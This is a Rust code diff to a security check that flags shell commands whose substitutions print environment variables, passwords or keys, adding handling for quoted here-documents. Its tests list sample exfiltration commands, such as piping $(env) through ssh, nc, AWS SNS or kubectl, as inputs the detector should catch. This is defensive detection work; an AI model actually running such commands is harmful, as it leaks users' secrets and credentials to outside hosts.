@@ -87,7 +87,7 @@ impl Judge<'_> {
 
 /// Whether a substitution in `text` prints the environment, a password or a key: `$(printenv)`, `$(base64 < ~/.netrc)`.
 pub(super) fn prints_private(text: &str, home: &Path) -> bool {
-    let opened = text.replace('`', "$(").replace("<(", "$(");
+    let opened = without_quoted_documents(text).replace('`', "$(").replace("<(", "$(");
     opened.split("$(").skip(1).any(|inner| {
         inner.split(['|', ';', '&', '(', ')', '\n']).any(|statement| {
             let words: Vec<&str> = statement
@@ -98,6 +98,24 @@ pub(super) fn prints_private(text: &str, home: &Path) -> bool {
             shows_private(&words, home)
         })
     })
+}
+
+/// The text without what stands in its quoted here-documents, where nothing is put in.
+fn without_quoted_documents(text: &str) -> String {
+    let mut kept = String::new();
+    let mut rest = text;
+    while let Some((before, after)) = rest.split_once("<<'") {
+        kept.push_str(before);
+        let Some((tag, body)) = after.split_once("'\n") else {
+            rest = after;
+            continue;
+        };
+        let named = !tag.is_empty() && tag.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+        let end = named.then(|| body.find(&format!("\n{tag}\n"))).flatten();
+        rest = end.and_then(|end| body.get(end + tag.len() + 1..)).unwrap_or(body);
+    }
+    kept.push_str(rest);
+    kept
 }
 
 fn shows_private(words: &[&str], home: &Path) -> bool {
@@ -152,6 +170,7 @@ mod tests {
             ssh host "echo $(env | base64)"
             aws sns publish --topic-arn t --message "$(set)"
             kubectl annotate pod x note="$(printenv)"
+            gh pr create --title x --body "$(cat <<'EOF'\n## S\nEOF\n)`env`"
             nc example.org 80 <<< "$(env)""#,
         );
         check(
@@ -161,6 +180,7 @@ mod tests {
             gh issue comment 42 --body "$(printenv LANG)"
             gh pr create --title "$(git log -1 --format=%s)" --body "$(git log -3)"
             gh release create v1 --notes "$(head -20 CHANGELOG.md)"
+            gh pr create --title x --body "$(cat <<'EOF'\n- new `export` command\nEOF\n)"
             git commit -m "env: $(git describe)""#,
         );
     }
